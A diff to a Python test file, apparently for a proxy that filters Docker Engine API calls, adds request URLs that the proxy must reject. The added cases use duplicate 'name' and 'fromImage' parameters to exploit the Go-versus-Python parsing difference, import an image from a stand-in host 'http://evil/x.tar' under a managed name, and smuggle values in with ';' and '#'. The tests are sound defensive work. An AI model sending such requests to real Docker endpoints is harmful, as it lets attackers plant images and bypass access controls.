@@ -55,6 +55,19 @@ def test_what_the_service_needs_passes(method: str, url: str) -> None:
         ("POST", "/v1.41/containers/create?name=openems"),
         ("POST", "/v1.41/containers/create?name=other.new"),
         ("POST", "/v1.41/images/create?fromImage=evil&tag=latest"),
+        ("POST", "/v1.41/images/create?fromImage=openems%2Fedge&tag="),
+        # what Python reads and what the engine (Go) reads must be one: it takes the first of a name, Python the last
+        ("POST", "/v1.41/containers/create?name=other&name=openems.new"),
+        ("POST", "/v1.41/containers/openems/rename?name=other&name=openems.old"),
+        ("POST", "/v1.41/images/create?fromImage=evil&fromImage=openems%2Fedge&tag=2026.4"),
+        # an empty fromImage makes it an import of whatever lies at fromSrc, under a managed image's name
+        (
+            "POST",
+            "/v1.41/images/create?fromImage=&fromImage=openems%2Fedge&tag=2026.4&fromSrc=http://evil/x.tar&repo=openems%2Fedge",
+        ),
+        ("POST", "/v1.41/images/create?fromImage=openems%2Fedge&tag=2026.4&fromSrc=http://evil/x.tar"),
+        ("POST", "/v1.41/images/create?fromImage=openems%2Fedge&tag=2026.4;fromImage=evil"),
+        ("POST", "/v1.41/containers/openems/rename?name=openems.old#"),
         ("POST", "/v1.41/build"),
         ("GET", "/v1.41/secrets"),
         ("POST", "/v1.41/volumes/create"),
